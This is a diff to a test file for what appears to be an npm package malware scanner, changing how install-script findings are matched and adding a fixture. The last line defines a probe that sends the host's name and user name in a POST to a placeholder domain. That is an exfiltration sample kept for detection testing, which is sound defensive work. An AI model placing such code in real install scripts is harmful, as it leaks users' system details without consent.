@@ -6,9 +6,7 @@ async function tierOf(
   files: Record<string, string> = {},
 ): Promise<string | null> {
   const findings = await findingsOf({ 'package.json': manifestWith(scripts), ...files });
-  return (
-    findings.find((finding) => finding.includes('malware.install-script-network'))?.split(' ')[0] ?? null
-  );
+  return findings.find((finding) => finding.includes('malware.install-script'))?.split(' ')[0] ?? null;
 }
 
 test.each([
@@ -33,7 +31,7 @@ test.each([
   [`node -e "console.log('Thank you for using a')"`, null],
   ['opencollective-postinstall || exit 0', null],
 ])('the command %s', async (command, tier) => {
-  expect(await tierOf({ postinstall: command })).toBe(tier);
+  expect(await tierOf({ postinstall: command }, { 'postinstall.js': '' })).toBe(tier);
 });
 
 const probe = `const os = require('os'); require('https').request('https://a.example', { method: 'POST' }).end(os.hostname() + os.userInfo().username)`;
